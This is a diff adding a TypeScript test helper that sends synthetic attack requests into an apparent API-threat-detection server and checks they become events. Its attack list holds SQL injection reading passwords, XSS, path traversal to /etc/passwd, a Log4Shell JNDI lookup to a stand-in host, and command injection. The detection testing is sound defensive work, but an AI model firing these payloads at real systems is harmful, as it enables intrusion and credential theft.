@@ -1,0 +1,56 @@
+import { readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { signUpPerson, type TestServer } from '../harness.ts'
+import { vigilOf } from '../scorecard/vigil-of.ts'
+import { until } from '../until.ts'
+import { email, filledPages } from './installation.ts'
+
+/** Who attacks the full installation. */
+export const attackers = ['203.0.113.66', '198.51.100.23', '8.8.8.8', '1.1.1.1', '185.199.108.153'] as const
+
+const attacks = [
+  "/rest/products/search?q=' UNION SELECT password FROM users--",
+  '/rest/products/search?q=<script>alert(1)</script>',
+  '/../../../../etc/passwd',
+  '/rest/products/search?q=${jndi:ldap://evil.test/a}',
+  '/rest/user?id=1;cat /etc/passwd',
+]
+
+/** One message of an attack. */
+export function attackMessage(path: string, ip: string, at: number) {
+  return {
+    method: 'GET',
+    path: encodeURI(path),
+    requestHeaders: { host: 'shop.test', accept: 'application/json' },
+    responseHeaders: { 'content-type': 'application/json' },
+    statusCode: 200,
+    responsePayload: '{"ok":true}',
+    ip,
+    time: at,
+    source: 'MIRRORING',
+  }
+}
+
+/** Sends attacks of the last day to a server, and waits until they are events. */
+export async function sendAttacks(server: TestServer): Promise<void> {
+  const now = Math.floor(Date.now() / 1000)
+  const batchData = attackers.flatMap((ip, of) =>
+    attacks.flatMap((path, at) =>
+      Array.from({ length: 1 + ((of + at) % 4) }, (_none, nth) =>
+        attackMessage(`${path}&n=${nth}`, ip, now - 2 - (of * 5 + at) * 1_700 - nth * 60),
+      ),
+    ),
+  )
+  await vigilOf(server).call('ingestData', { batchData })
+  const events = async () => (await server.client.call('fetchSuspectSampleData', {})).total ?? 0
+  await until('the attacks to be events', events, { isRight: (count) => count > attackers.length })
+}
+
+/** Fills a server with a recording and attacks. @returns pages that an empty one does not have */
+export async function fillInstallation(server: TestServer): Promise<string[]> {
+  await signUpPerson(server, email)
+  const content = readFileSync(join(import.meta.dirname, '..', 'fixtures', 'juiceshop.har'), 'utf8')
+  await server.client.op.uploadHar({ content, apiCollectionName: 'juiceshop', fileName: 'juiceshop.har' })
+  await sendAttacks(server)
+  return [...(await filledPages(server)), `/threats/actors/one?actor=${attackers[0]}`, '/settings/status']
+}
